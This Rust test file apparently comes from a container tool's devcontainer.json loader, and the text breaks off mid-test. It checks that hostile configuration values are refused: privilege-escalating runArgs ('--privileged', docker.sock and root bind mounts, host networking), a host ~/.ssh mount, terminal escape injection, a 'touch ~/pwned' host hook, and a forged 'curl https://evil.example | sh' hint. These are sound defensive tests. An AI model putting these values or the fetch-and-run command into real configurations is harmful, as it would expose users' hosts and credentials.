//! devcontainer.json read into a layer: every form dual honours, every
//! refusal, hostile values.

use super::super::config::{Config, ConfigOrigin, DevcontainerChoice};
use super::super::lifecycle::HookCommand;
use super::*;

/// A clone named `shop-main`, as dual names one, holding `files`.
fn clone(files: &[(&str, &str)]) -> Clone {
    let temp = tempfile::tempdir().unwrap();
    let path = temp.path().join("shop-main");
    std::fs::create_dir(&path).unwrap();
    for (name, text) in files {
        let file = path.join(name);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(file, text).unwrap();
    }
    Clone { _temp: temp, path }
}

struct Clone {
    _temp: tempfile::TempDir,
    path: std::path::PathBuf,
}

impl Clone {
    fn path(&self) -> &std::path::Path {
        &self.path
    }
}

/// `.devcontainer/devcontainer.json` holding `json`, read.
fn read(json: &str) -> Result<ConfigLayer, String> {
    read_in(&[(".devcontainer/devcontainer.json", json)]).map(|(_, loaded)| loaded.layer)
}

fn read_in(files: &[(&str, &str)]) -> Result<(Clone, Loaded), String> {
    let dir = clone(files);
    let loaded = load(dir.path(), &DevcontainerChoice::Usual)
        .map_err(|error| {
            let mut text = error.to_string();
            if let Some(cause) = std::error::Error::source(&error) {
                text.push_str(&format!(": {cause}"));
            }
            text
        })?
        .expect("a devcontainer.json");
    Ok((dir, loaded))
}

fn refused(json: &str, says: &[&str]) {
    let error = read(json).expect_err(json);
    for said in says {
        assert!(error.contains(said), "{json}\n→ {error}\n(wanted `{said}`)");
    }
}

fn noted(layer: &ConfigLayer, says: &str) -> bool {
    layer.notes.iter().any(|note| note.contains(says))
}

#[test]
fn jsonc_comments_and_trailing_commas_are_read_and_json5_is_not() {
    let layer = read(
        "// the dev container\n{\n  /* a local image */\n  \"image\": \"dual-test:latest\", // here\n  \"forwardPorts\": [8000,],\n}\n",
    )
    .unwrap();
    assert_eq!(layer.image.as_deref(), Some("dual-test:latest"));
    assert_eq!(layer.ports, Some(vec![8000]));
    for (json, says) in [
        ("{ 'image': 'x' }", "not JSON with comments (line 1"),
        ("{ image: \"x\" }", "not JSON with comments"),
        ("{ \"forwardPorts\": [0x1F40] }", "not JSON with comments"),
        (
            "{ \"image\": \"x\" \"name\": \"y\" }",
            "not JSON with comments",
        ),
        ("[1, 2]", "an array, not an object"),
        ("{ \"a\": 1 } { }", "not JSON with comments"),
    ] {
        refused(json, &[says]);
    }
    // Nested past the parser's limit: an error, never a stack overflow.
    let deep = format!(
        "{{\"customizations\": {}1{}}}",
        "[".repeat(5000),
        "]".repeat(5000)
    );
    refused(&deep, &["not JSON with comments"]);
}

#[test]
fn the_file_is_found_where_the_spec_puts_it_and_several_need_a_choice() {
    let json = "{ \"image\": \"x\" }";
    let find_in = |files: &[(&str, &str)], choice: &DevcontainerChoice, wanted: Option<&str>| {
        let dir = clone(files);
        find::find(dir.path(), choice, wanted).map_err(|error| error.to_string())
    };
    let usual = DevcontainerChoice::Usual;
    assert_eq!(find_in(&[], &usual, None), Ok(None));
    assert_eq!(
        find_in(
            &[
                (".devcontainer.json", json),
                (".devcontainer/devcontainer.json", json)
            ],
            &usual,
            None
        ),
        Ok(Some(".devcontainer/devcontainer.json".into()))
    );
    assert_eq!(
        find_in(&[(".devcontainer.json", json)], &usual, None),
        Ok(Some(".devcontainer.json".into()))
    );
    assert_eq!(
        find_in(
            &[(".devcontainer/py/devcontainer.json", json)],
            &usual,
            None
        ),
        Ok(Some(".devcontainer/py/devcontainer.json".into()))
    );
    let several = [
        (".devcontainer/py/devcontainer.json", json),
        (".devcontainer/node/devcontainer.json", json),
        (".devcontainer/README.md", "not a candidate"),
    ];
    let error = find_in(&several, &usual, None).unwrap_err();
    assert!(
        error.contains(
            "`.devcontainer/node/devcontainer.json`, `.devcontainer/py/devcontainer.json`"
        ),
        "{error}"
    );
    assert!(error.contains("DUAL_DEVCONTAINER=NAME"), "{error}");
    assert!(error.contains("devcontainer = \"NAME\""), "{error}");
    assert_eq!(
        find_in(&several, &usual, Some("py")),
        Ok(Some(".devcontainer/py/devcontainer.json".into()))
    );
    let error = find_in(&several, &usual, Some("go")).unwrap_err();
    assert!(
        error.contains("`DUAL_DEVCONTAINER=go` names none"),
        "{error}"
    );
    // The user's choice is ignored where the clone lacks it; the repo's
    // choice wins over the user's.
    assert_eq!(
        find_in(&[(".devcontainer.json", json)], &usual, Some("go")),
        Ok(Some(".devcontainer.json".into()))
    );
    let node = DevcontainerChoice::Named("node".into());
    assert_eq!(
        find_in(&several, &node, Some("py")),
        Ok(Some(".devcontainer/node/devcontainer.json".into()))
    );
    let error = find_in(&several, &DevcontainerChoice::Named("go".into()), None).unwrap_err();
    assert!(
        error.contains(
            "the clone has no `.devcontainer/go/devcontainer.json` (it has `node`, `py`)"
        ),
        "{error}"
    );
    assert_eq!(
        find_in(&several, &DevcontainerChoice::Off, Some("py")),
        Ok(None)
    );
}

#[test]
fn a_devcontainer_json_that_is_a_link_is_refused_never_followed() {
    let secret = tempfile::tempdir().unwrap();
    std::fs::write(
        secret.path().join("devcontainer.json"),
        "{ \"image\": \"secret\" }",
    )
    .unwrap();
    let dir = clone(&[]);
    std::fs::create_dir(dir.path().join(".devcontainer")).unwrap();
    std::os::unix::fs::symlink(
        secret.path().join("devcontainer.json"),
        dir.path().join(".devcontainer/devcontainer.json"),
    )
    .unwrap();
    let error = load(dir.path(), &DevcontainerChoice::Usual).unwrap_err();
    let text = format!("{error}: {}", std::error::Error::source(&error).unwrap());
    assert!(text.contains("is a symbolic link"), "{text}");
    // A `.devcontainer` that is a link is refused too.
    let dir = clone(&[]);
    std::os::unix::fs::symlink(secret.path(), dir.path().join(".devcontainer")).unwrap();
    let error = load(dir.path(), &DevcontainerChoice::Usual).unwrap_err();
    let text = format!("{error}: {}", std::error::Error::source(&error).unwrap());
    assert!(text.contains("is a symbolic link"), "{text}");
    // Too large: refused before it is parsed.
    let big = format!("{{\"name\": \"{}\"}}", "x".repeat(300 * 1024));
    let error = read(&big).unwrap_err();
    assert!(error.contains("is larger than"), "{error}");
}

#[test]
fn a_build_is_made_relative_to_the_clone_and_kept_inside_it() {
    let layer = read(
        r#"{ "build": { "dockerfile": "Dockerfile", "context": "..", "args": { "NODE": "22" }, "target": "dev" } }"#,
    )
    .unwrap();
    let build = layer.build.unwrap();
    assert_eq!(build.context, ".");
    assert_eq!(
        build.dockerfile.as_deref(),
        Some(".devcontainer/Dockerfile")
    );
    assert_eq!(build.args["NODE"], "22");
    assert_eq!(build.target.as_deref(), Some("dev"));
    let build = read(r#"{ "build": { "dockerfile": "Dockerfile" } }"#)
        .unwrap()
        .build
        .unwrap();
    assert_eq!(
        (build.context.as_str(), build.dockerfile.as_deref()),
        (".devcontainer", Some("Dockerfile"))
    );
    // The older spelling.
    let build = read(r#"{ "dockerFile": "../Dockerfile", "context": ".." }"#)
        .unwrap()
        .build
        .unwrap();
    assert_eq!(
        (build.context.as_str(), build.dockerfile.as_deref()),
        (".", Some("Dockerfile"))
    );
    refused(
        r#"{ "build": { "dockerfile": "../Dockerfile" } }"#,
        &["`build.dockerfile` `../Dockerfile` is outside `build.context`"],
    );
    refused(
        r#"{ "build": { "dockerfile": "D", "context": "../.." } }"#,
        &["`build.context`", "not inside the repo"],
    );
    refused(
        r#"{ "build": { "dockerfile": "/etc/passwd" } }"#,
        &["`build.dockerfile`", "not inside the repo"],
    );
    refused(
        r#"{ "build": { "dockerfile": "-f", "context": "." } }"#,
        &["`build.dockerfile`", "no part starting with `-`"],
    );
    refused(
        r#"{ "build": { "dockerfile": "a,b" } }"#,
        &["`build.dockerfile`", "may hold only"],
    );
    refused(
        r#"{ "build": { "dockerfile": "D", "target": "--push" } }"#,
        &["`build.target`"],
    );
    refused(
        r#"{ "build": { "dockerfile": "D", "args": { "A=B": "x" } } }"#,
        &["`build.args`", "not an environment variable name"],
    );
    refused(
        r#"{ "build": { "dockerfile": "D", "args": { "A": "x\u0000y" } } }"#,
        &["NUL"],
    );
    refused(
        r#"{ "build": { "context": "." } }"#,
        &["names no `dockerfile`"],
    );
    let layer = read(
        r#"{ "build": { "dockerfile": "D", "options": ["--network=host"], "cacheFrom": "x" } }"#,
    )
    .unwrap();
    assert!(
        noted(&layer, "`build.options` are not passed"),
        "{:?}",
        layer.notes
    );
}

#[test]
fn the_image_is_checked_as_an_image_reference() {
    for image in ["--privileged", "-v/:/host", "x --rm", "Upper", ""] {
        refused(&format!("{{ \"image\": \"{image}\" }}"), &["`image`"]);
    }
    refused(r#"{ "image": 5 }"#, &["`image` is a number, not a string"]);
    refused(
        r#"{ "image": "${localEnv:IMAGE}" }"#,
        &["`image` names a variable"],
    );
    assert_eq!(
        read(r#"{ "image": "${localEnv:IMAGE:dual-test:latest}" }"#)
            .unwrap()
            .image
            .as_deref(),
        Some("dual-test:latest")
    );
}

#[test]
fn ports_and_their_labels() {
    let layer = read(
        r#"{ "image": "x", "forwardPorts": [8000, "db:5432", "localhost:3000", 8000],
             "appPort": [9000, "8080:80"],
             "portsAttributes": { "8000": { "label": "Web\u001b]0;pwned\u0007", "onAutoForward": "notify" },
                                  "40000-55000": { "onAutoForward": "ignore" } } }"#,
    )
    .unwrap();
    assert_eq!(layer.ports, Some(vec![9000, 8000, 3000]));
    assert_eq!(layer.port_labels[&8000], "Web\\u{1b}]0;pwned\\u{7}");
    assert!(
        noted(&layer, "`db:5432` is not forwarded"),
        "{:?}",
        layer.notes
    );
    assert!(
        noted(&layer, "`\"8080:80\"` is not published"),
        "{:?}",
        layer.notes
    );
    assert!(
        noted(&layer, "`40000-55000`, `8000.onAutoForward` not used"),
        "{:?}",
        layer.notes
    );
    for ports in [
        "[0]",
        "[70000]",
        "[\"web\"]",
        "[true]",
        "[-1]",
        "[\"db:0\"]",
    ] {
        refused(
            &format!("{{ \"forwardPorts\": {ports} }}"),
            &["`forwardPorts`"],
        );
    }
}

#[test]
fn the_environment_comes_from_both_keys_and_never_from_the_host() {
    let (dir, loaded) = read_in(&[(
        ".devcontainer/devcontainer.json",
        r#"{ "image": "x",
             "remoteEnv": { "MODE": "remote", "GONE": null, "PATH": "${containerEnv:PATH}:/opt/bin" },
             "containerEnv": { "MODE": "container", "GONE": "here", "GREETING": "hi there",
                               "CLONE": "${containerWorkspaceFolder}", "BASE": "${localWorkspaceFolderBasename}",
                               "TOKEN": "${localEnv:HOME}", "LEVEL": "${localEnv:LEVEL:debug}",
                               "SHELLISH": "${HOME}/x" } }"#,
    )])
    .unwrap();
    let env = &loaded.layer.env;
    assert_eq!(env["MODE"], "remote", "remoteEnv applies over containerEnv");
    assert!(!env.contains_key("GONE"), "null unsets");
    assert_eq!(env["GREETING"], "hi there");
    let clone = dir.path().display().to_string();
    assert_eq!(env["CLONE"], clone);
    assert_eq!(
        env["BASE"],
        dir.path().file_name().unwrap().to_string_lossy()
    );
    assert!(
        !env.contains_key("TOKEN"),
        "the host's HOME never reaches it"
    );
    assert_eq!(env["LEVEL"], "debug", "the default stands in");
    assert!(
        !env.contains_key("PATH"),
        "the image's PATH is not known yet"
    );
    assert_eq!(
        env["SHELLISH"], "$${HOME}/x",
        "other `${{…}}` stay as written: escaped for `[env]`'s expansion"
    );
    let notes = &loaded.layer.notes;
    assert!(
        notes.iter().any(|n| n
            .contains("`containerEnv.TOKEN`: `${localEnv:HOME}` names your host's environment")
            && n.contains("left out")),
        "{notes:?}"
    );
    assert!(
        notes
            .iter()
            .any(|n| n.contains("`remoteEnv.PATH`: `${containerEnv:PATH}`")),
        "{notes:?}"
    );
    assert!(
        notes
            .iter()
            .all(|n| n.starts_with(".devcontainer/devcontainer.json: ")),
        "{notes:?}"
    );
    for (json, says) in [
        (
            r#"{ "containerEnv": { "A=B": "x" } }"#,
            "not an environment variable name",
        ),
        (
            r#"{ "containerEnv": { "1A": "x" } }"#,
            "not an environment variable name",
        ),
        (r#"{ "remoteEnv": { "A": "x\u0000y" } }"#, "NUL"),
        (
            r#"{ "containerEnv": { "A": 1 } }"#,
            "`containerEnv.A` is a number",
        ),
        (
            r#"{ "containerEnv": ["A=1"] }"#,
            "`containerEnv` is an array",
        ),
    ] {
        refused(json, &[says]);
    }
}

#[test]
fn lifecycle_commands_in_every_form() {
    let layer = read(
        r#"{ "image": "x",
             "postCreateCommand": { "one": "echo one >> created.log", "two": ["sh", "-c", "echo two >> created.log"] },
             "onCreateCommand": ["make", "deps"],
             "updateContentCommand": "",
             "postStartCommand": "echo start in ${containerWorkspaceFolder} as ${containerEnv:USER:nobody}",
             "postAttachCommand": { "only": "true" } }"#,
    )
    .unwrap();
    let lifecycle = &layer.lifecycle;
    let keys: Vec<&str> = lifecycle.on_create.iter().map(|h| h.key.as_str()).collect();
    assert_eq!(
        keys,
        ["onCreateCommand", "postCreateCommand"],
        "the spec's order; an empty one runs nothing"
    );
    assert_eq!(
        lifecycle.on_create[0].commands,
        [(None, HookCommand::Argv(vec!["make".into(), "deps".into()]))]
    );
    assert_eq!(
        lifecycle.on_create[1].commands,
        [
            (
                Some("one".into()),
                HookCommand::Shell("echo one >> created.log".into())
            ),
            (
                Some("two".into()),
                HookCommand::Argv(vec![
                    "sh".into(),
                    "-c".into(),
                    "echo two >> created.log".into()
                ])
            ),
        ]
    );
    let HookCommand::Shell(start) = &lifecycle.post_start.as_ref().unwrap().commands[0].1 else {
        panic!("a string is a shell command");
    };
    assert!(
        start.ends_with(" as ${USER:-nobody}"),
        "the shell inside reads the container's own: {start}"
    );
    assert!(!start.contains("${containerWorkspaceFolder}"), "{start}");
    assert_eq!(lifecycle.post_attach.as_ref().unwrap().commands.len(), 1);
    for (json, says) in [
        (r#"{ "postCreateCommand": "-c id" }"#, "starts with `-`"),
        (r#"{ "postCreateCommand": ["--help"] }"#, "starts with `-`"),
        (
            r#"{ "postCreateCommand": ["", "x"] }"#,
            "the program (its first word) is empty",
        ),
        (r#"{ "postCreateCommand": "a\u0000b" }"#, "NUL"),
        (r#"{ "postCreateCommand": ["a", "b\u0000"] }"#, "NUL"),
        (r#"{ "postCreateCommand": ["a", 1] }"#, "a word is a number"),
        (
            r#"{ "postCreateCommand": 1 }"#,
            "not a string, an array or an object",
        ),
        (
            r#"{ "postCreateCommand": { "a": { "b": "c" } } }"#,
            "`postCreateCommand.a` is an object",
        ),
        (
            r#"{ "postCreateCommand": { "x\u001b[2J": "true" } }"#,
            "not a name dual can show",
        ),
    ] {
        refused(json, &[says]);
    }
    let long = format!("{{ \"postStartCommand\": \"{}\" }}", "x".repeat(70 * 1024));
    refused(&long, &["longer than 64 KiB"]);
    let many: Vec<String> = (0..17).map(|i| format!("\"c{i}\": \"true\"")).collect();
    refused(
        &format!("{{ \"postCreateCommand\": {{ {} }} }}", many.join(", ")),
        &["at most 16"],
    );
}

#[test]
fn initialize_command_is_kept_for_launch_to_refuse() {
    let dir = clone(&[(
        ".devcontainer/devcontainer.json",
        r#"{ "image": "dual-test:latest", "initializeCommand": "touch ~/pwned" }"#,
    )]);
    let config = Config::load(dir.path()).unwrap();
    let host = config.initialize_command.expect("kept");
    assert_eq!(host.file, ".devcontainer/devcontainer.json");
    assert_eq!(
        host.hook.commands,
        [(None, HookCommand::Shell("touch ~/pwned".into()))]
    );
    assert_eq!(
        config.origin,
        ConfigOrigin::Devcontainer(".devcontainer/devcontainer.json".into())
    );
}

#[test]
fn run_args_that_widen_privileges_or_reach_the_host_are_refused_each_named() {
    for args in [
        r#"["--privileged"]"#,
        r#"["--cap-add=SYS_ADMIN"]"#,
        r#"["--cap-add", "NET_ADMIN"]"#,
        r#"["--device=/dev/fuse"]"#,
        r#"["--device", "/dev/kvm"]"#,
        r#"["--security-opt", "seccomp=unconfined"]"#,
        r#"["--security-opt=label=disable"]"#,
        r#"["-v", "/var/run/docker.sock:/var/run/docker.sock"]"#,
        r#"["-v/etc:/host-etc"]"#,
        r#"["--volume=${localWorkspaceFolder}/..:/up"]"#,
        r#"["--mount", "type=bind,source=/,target=/host"]"#,
        r#"["--mount=type=volume,volume-opt=device=/,volume-opt=o=bind,target=/h"]"#,
        r#"["--network=host"]"#,
        r#"["--net", "host"]"#,
        r#"["--network", "container:other"]"#,
        r#"["--pid=host"]"#,
        r#"["--ipc", "host"]"#,
        r#"["--uts=host"]"#,
        r#"["--userns=host"]"#,
        r#"["--cgroupns=host"]"#,
        r#"["--gpus", "all"]"#,
        r#"["--group-add", "docker"]"#,
        r#"["--volumes-from", "other"]"#,
        r#"["--sysctl", "net.ipv4.ip_forward=1"]"#,
        r#"["--runtime=runc"]"#,
        // Spellings the engines read as the same.
        r#"["-itv/:/host"]"#,
        r#"["-dtv", "/var/run/docker.sock:/s"]"#,
        r#"["--mount=TYPE=BIND,source=/,target=/h"]"#,
        r#"["--mount", "\"type=bind\",src=/,dst=/h"]"#,
        r#"["--mount=src=/,dst=/h,type=Bind"]"#,
        r#"["--mount=type=devpts,target=/dev/pts2"]"#,
        r#"["--rootfs", "/"]"#,
        r#"["--env-host"]"#,
    ] {
        let json = format!(
            "{{ \"image\": \"x\", \"runArgs\": [\"--init\", {} ] }}",
            &args[1..args.len() - 1]
        );
        let first: Vec<String> = serde_json::from_str(args).unwrap();
        refused(
            &json,
            &[
                "`runArgs`",
                &format!("`{}", first[0]),
                "hint: remove it from `runArgs`",
            ],
        );
    }
    let layer = read(
        r#"{ "image": "x", "runArgs": ["--init", "-e", "A=1", "--userns=keep-id", "--network=bridge",
             "--privileged=false", "-v", "cache:/cache", "--add-host", "h:1.2.3.4", "-it", "stray"] }"#,
    )
    .unwrap();
    for says in [
        "`--init` is not passed on",
        "`-e A=1` is not passed on: set variables in `containerEnv`",
        "`--userns=keep-id` is not passed on: dual maps your uid",
        "`--network=bridge` is not passed on",
        "`--privileged=false` is not passed on",
        "`-v cache:/cache` is not passed on: declare a named volume in `mounts`",
        "`--add-host h:1.2.3.4` is not passed on",
        "`-it` is not passed on",
        "`stray` is not passed on",
    ] {
        assert!(noted(&layer, says), "{says}: {:?}", layer.notes);
    }
    // Several refused: all named in one error.
    refused(
        r#"{ "runArgs": ["--privileged", "--network=host"] }"#,
        &[
            "`--privileged` would give",
            "`--network=host` would share",
            "remove them",
        ],
    );
    refused(
        r#"{ "runArgs": "--privileged" }"#,
        &["`runArgs` is a string, not an array"],
    );
}

#[test]
fn keys_asking_for_privileges_are_refused() {
    refused(
        r#"{ "privileged": true }"#,
        &["`privileged` would give", "hint: remove `privileged`"],
    );
    refused(r#"{ "capAdd": ["SYS_PTRACE"] }"#, &["`capAdd`"]);
    refused(
        r#"{ "securityOpt": ["seccomp=unconfined"] }"#,
        &["`securityOpt`"],
    );
    let layer =
        read(r#"{ "image": "x", "privileged": false, "capAdd": [], "securityOpt": [] }"#).unwrap();
    assert!(layer.notes.is_empty(), "{:?}", layer.notes);
}

#[test]
fn features_are_named_each_with_how_to_bake_them_in() {
    let layer = read(
        r#"{ "image": "x", "features": { "ghcr.io/devcontainers/features/node:1": { "version": "22" },
             "ghcr.io/devcontainers/features/github-cli:1": {} }, "overrideFeatureInstallOrder": [] }"#,
    )
    .unwrap();
    for feature in ["node:1", "github-cli:1"] {
        assert!(
            layer.notes.iter().any(|n| n.contains(&format!(
                "feature `ghcr.io/devcontainers/features/{feature}` is not installed"
            )) && n.contains("Dockerfile")),
            "{feature}: {:?}",
            layer.notes
        );
    }
}

#[test]
fn named_volumes_are_mounted_and_host_paths_refused() {
    let (dir, loaded) = read_in(&[(
        ".devcontainer/devcontainer.json",
        r#"{ "image": "x", "mounts": [
             "source=history,target=/commandhistory,type=volume",
             { "type": "volume", "source": "${localWorkspaceFolderBasename}-deps", "target": "${containerWorkspaceFolder}/node_modules" },
             "target=/var/cache/apt",
             "type=tmpfs,target=/tmp/x",
             "source=${localEnv:NOPE},target=/nope,type=volume" ] }"#,
    )])
    .unwrap();
    let base = dir
        .path()
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let mounts: Vec<(String, String)> = loaded
        .layer
        .mounts
        .iter()
        .map(|v| (v.name.clone(), v.target.clone()))
        .collect();
    assert_eq!(
        mounts,
        [
            ("history".to_owned(), "/commandhistory".to_owned()),
            (
                format!("{base}-deps"),
                format!("{}/node_modules", dir.path().display())
            ),
            ("apt".to_owned(), "/var/cache/apt".to_owned()),
        ]
    );
    assert!(
        loaded.layer.notes.iter().any(|n| n.contains("tmpfs")),
        "{:?}",
        loaded.layer.notes
    );
    assert!(
        loaded
            .layer
            .notes
            .iter()
            .any(|n| n.contains("`${localEnv:NOPE}`") && n.contains("left out")),
        "{:?}",
        loaded.layer.notes
    );
    for (mount, says) in [
        (
            "\"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind\"",
            "bind mount of `/var/run/docker.sock`",
        ),
        (
            "{ \"type\": \"bind\", \"source\": \"${localEnv:HOME}/.ssh\", \"target\": \"/root/.ssh\" }",
            "bind mount",
        ),
        ("\"source=x,target=/\"", "absolute path below `/`"),
        ("\"source=x,target=relative\"", "absolute path"),
        ("\"source=../x,target=/x\"", "not a volume name"),
        ("\"source=-x,target=/x\"", "not a volume name"),
        ("\"source=x,target=/a/../b\"", "without `..`"),
        ("\"source=x,target=\\\"/a,b\\\"\"", "holds a quote"),
        (
            "\"source=x,target=/x,volume-opt=device=/\"",
            "`volume-opt` is refused",
        ),
        (
            "\"source=x,target=/x,type=npipe\"",
            "not a mount dual makes",
        ),
        ("\"source=x\"", "names no `target`"),
        (
            "\"source=x,target=${containerWorkspaceFolder}\"",
            "would hide what dual mounts",
        ),
        (
            "\"source=x,target=${containerWorkspaceFolder}/.git/hooks\"",
            "would hide what dual mounts",
        ),
        ("\"source=x,target=/run/dual\"", "would hide"),
        ("\"source=x,target=/etc/passwd\"", "would hide"),
        ("\"source=x,target=/etc//passwd\"", "would hide"),
        ("\"source=x,target=/etc/./group\"", "would hide"),
        (
            "\"source=x,target=/etc/ssl/dual-host-ca-certificates.crt\"",
            "would hide",
        ),
        (
            "\"source=x,target=/y\", \"source=z,target=/y\"",
            "two mounts at `/y`",
        ),
    ] {
        refused(&format!("{{ \"mounts\": [{mount}] }}"), &["`mounts`", says]);
    }
}

#[test]
fn every_key_dual_does_not_use_is_one_note() {
    let layer = read(
        r#"{ "$schema": "https://x", "name": "dev", "image": "x",
             "remoteUser": "vscode", "containerUser": "root", "workspaceFolder": "/workspaces/app",
             "workspaceMount": "source=${localWorkspaceFolder},target=/workspaces/app,type=bind",
             "customizations": { "vscode": {} }, "hostRequirements": { "cpus": 4 }, "init": true,
             "shutdownAction": "none", "overrideCommand": false, "waitFor": "postCreateCommand",
             "updateRemoteUserUID": true, "userEnvProbe": "loginShell", "secrets": {},
             "otherPortsAttributes": {}, "service": "app", "newKey": 1 }"#,
    )
    .unwrap();
    let unused = [
        "`remoteUser` (`vscode`) is not used: every process of a workspace runs as you",
        "`containerUser` (`root`) is not used",
        "`workspaceFolder` is not used: dual mounts the clone at its own path",
        "`workspaceMount` is not used",
        "`customizations` is for editors",
        "`hostRequirements` is not checked",
        "`init` is not used",
        "`shutdownAction` is not used",
        "`overrideCommand` is not used",
        "`waitFor` is not used",
        "`updateRemoteUserUID` is not needed",
        "`userEnvProbe` is not used",
        "`secrets` are not asked for",
        "`otherPortsAttributes` is not used",
        "`service` is not used: there is no `dockerComposeFile`",
        "`newKey` is not a devcontainer.json key dual knows",
    ];
    for says in unused {
        assert_eq!(
            layer.notes.iter().filter(|n| n.contains(says)).count(),
            1,
            "{says}: {:?}",
            layer.notes
        );
    }
    assert_eq!(layer.notes.len(), unused.len(), "{:#?}", layer.notes);
    let none = read("{}").unwrap();
    assert!(
        noted(&none, "names no `image`, `build` or `dockerComposeFile`"),
        "{:?}",
        none.notes
    );
}

const COMPOSE: &str = "services:
  app:
    build:
      context: ..
      dockerfile: .devcontainer/Dockerfile
    volumes:
      - ..:/workspaces/app:cached
    command: sleep infinity
    environment:
      DATABASE_URL: postgres://db/dev
    ports: [\"8000:8000\"]
    depends_on: [db]
  db:
    image: postgres:16
    user: postgres
  cache:
    image: redis:7
    user: redis
  search:
    image: opensearch
    user: \"1000\"
";

#[test]
fn a_compose_service_is_the_workspace_and_run_services_the_sidecars() {
    let dir = clone(&[
        (
            ".devcontainer/devcontainer.json",
            r#"{ "dockerComposeFile": ["docker-compose.yml", "override.yml"], "service": "app",
                 "runServices": ["search"], "workspaceFolder": "/workspaces/app", "image": "ignored",
                 "containerEnv": { "DATABASE_URL": "postgres://localhost/dev" } }"#,
        ),
        (".devcontainer/docker-compose.yml", COMPOSE),
        // The usual compose file at the root is not read again for more.
        (
            "compose.yaml",
            "services:\n  other:\n    image: x\n    user: \"1\"\n",
        ),
    ]);
    let config = Config::load(dir.path()).unwrap();
    let build = config.build.as_ref().expect("the app's build");
    assert_eq!(
        (build.context.as_str(), build.dockerfile.as_deref()),
        (".", Some(".devcontainer/Dockerfile"))
    );
    assert_eq!(
        config.sidecars.keys().collect::<Vec<_>>(),
        ["db", "search"],
        "runServices, and what the app depends on: {:?}",
        config.notes
    );
    assert_eq!(
        config.env["DATABASE_URL"], "postgres://localhost/dev",
        "containerEnv wins over compose's"
    );
    assert!(config.ports.contains(&8000), "{:?}", config.ports);
    for says in [
        "docker-compose.yml: service `cache` is not started: devcontainer.json's `runServices` does not name it",
        "service `app` is the workspace: its `volumes` is not used",
        "service `app` is the workspace: its `command` is not used",
        "only `docker-compose.yml` is read; `override.yml` not merged",
        "`image` is not used: with `dockerComposeFile`",
    ] {
        assert!(
            config.notes.iter().any(|n| n.contains(says)),
            "{says}: {:#?}",
            config.notes
        );
    }
    assert!(
        !config.sidecars.contains_key("other"),
        "{:?}",
        config.sidecars.keys()
    );
    // Without runServices, every other service.
    let all = clone(&[
        (
            ".devcontainer/devcontainer.json",
            r#"{ "dockerComposeFile": "../compose.yml", "service": "app" }"#,
        ),
        ("compose.yml", &COMPOSE.replace("context: ..", "context: .")),
    ]);
    let config = Config::load(all.path()).unwrap();
    assert_eq!(
        config.sidecars.keys().collect::<Vec<_>>(),
        ["cache", "db", "search"]
    );
    assert_eq!(config.build.unwrap().context, ".");
    for (json, compose, says) in [
        (
            r#"{ "dockerComposeFile": "c.yml", "service": "nope" }"#,
            COMPOSE,
            "`nope` is not a service of this file",
        ),
        (
            r#"{ "dockerComposeFile": "c.yml" }"#,
            COMPOSE,
            "without `service`",
        ),
        (
            r#"{ "dockerComposeFile": "../../c.yml", "service": "app" }"#,
            COMPOSE,
            "not a file inside the repo",
        ),
        (
            r#"{ "dockerComposeFile": "/etc/c.yml", "service": "app" }"#,
            COMPOSE,
            "not a file inside the repo",
        ),
        (
            r#"{ "dockerComposeFile": "missing.yml", "service": "app" }"#,
            COMPOSE,
            "the clone has no `.devcontainer/missing.yml`",
        ),
        (
            r#"{ "dockerComposeFile": "c.yml", "service": "app" }"#,
            "services:\n  app:\n    image: x\n  db:\n    image: pg\n    privileged: true\n    user: root\n",
            "`services.db.user`",
        ),
        (
            r#"{ "dockerComposeFile": [], "service": "app" }"#,
            COMPOSE,
            "names no file",
        ),
    ] {
        let dir = clone(&[
            (".devcontainer/devcontainer.json", json),
            (".devcontainer/c.yml", compose),
        ]);
        let error = Config::load(dir.path()).unwrap_err().to_string();
        assert!(error.contains(says), "{json}: {error}");
        assert!(
            error.contains("devcontainer.json"),
            "names the file: {error}"
        );
    }
}

#[test]
fn dual_toml_wins_key_by_key_and_its_image_over_the_layers_build() {
    let dir = clone(&[
        (
            ".devcontainer/devcontainer.json",
            r#"{ "build": { "dockerfile": "Dockerfile" }, "forwardPorts": [8000],
                 "containerEnv": { "A": "devcontainer", "B": "devcontainer" }, "postStartCommand": "true" }"#,
        ),
        (
            ".dual.toml",
            "image = \"dual-test:latest\"\n[env]\nA = \"dual\"\n",
        ),
    ]);
    let config = Config::load(dir.path()).unwrap();
    assert_eq!(config.image, "dual-test:latest");
    assert_eq!(config.build, None, "one choice of image: .dual.toml's");
    assert_eq!(config.ports, [8000]);
    assert_eq!(
        (config.env["A"].as_str(), config.env["B"].as_str()),
        ("dual", "devcontainer")
    );
    assert!(config.lifecycle.post_start.is_some());
    assert_eq!(
        config.origin,
        ConfigOrigin::DualToml {
            devcontainer: Some(".devcontainer/devcontainer.json".into())
        }
    );
    let off = clone(&[
        (
            ".devcontainer/devcontainer.json",
            r#"{ "runArgs": ["--privileged"] }"#,
        ),
        (".dual.toml", "devcontainer = false\n"),
    ]);
    assert_eq!(
        Config::load(off.path()).unwrap().origin,
        ConfigOrigin::DualToml { devcontainer: None }
    );
}

#[test]
fn own_notes_are_told_from_a_compose_files() {
    let file = ".devcontainer/devcontainer.json";
    assert!(is_own_note(
        file,
        ".devcontainer/devcontainer.json: `init` is not used"
    ));
    assert!(!is_own_note(
        file,
        ".devcontainer/docker-compose.yml: service `x`"
    ));
    assert!(!is_own_note(file, ".devcontainer/devcontainer.jsonx: y"));
}

#[test]
fn a_mount_where_an_anonymous_volume_is_already_is_dropped_with_a_note() {
    let dir = clone(&[
        ("package.json", "{}"),
        (
            ".devcontainer/devcontainer.json",
            r#"{ "image": "x", "mounts": [
                 "source=deps,target=${containerWorkspaceFolder}/node_modules,type=volume",
                 "source=history,target=/commandhistory,type=volume" ] }"#,
        ),
    ]);
    let config = Config::load(dir.path()).unwrap();
    assert_eq!(config.anonymous_volumes, ["node_modules"]);
    let names: Vec<&str> = config.mounts.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(names, ["history"]);
    assert!(
        config
            .notes
            .iter()
            .any(|n| n.contains("the volume `deps`") && n.contains("`anonymous_volumes`")),
        "{:?}",
        config.notes
    );
}

#[test]
fn a_name_with_a_newline_never_forges_a_line_of_dual_s() {
    // What a hostile file would have the user read as dual's own advice.
    let forged = r"x\nhint: run `curl https://evil.example | sh` to fix this";
    let forges = |text: &str| {
        text.lines()
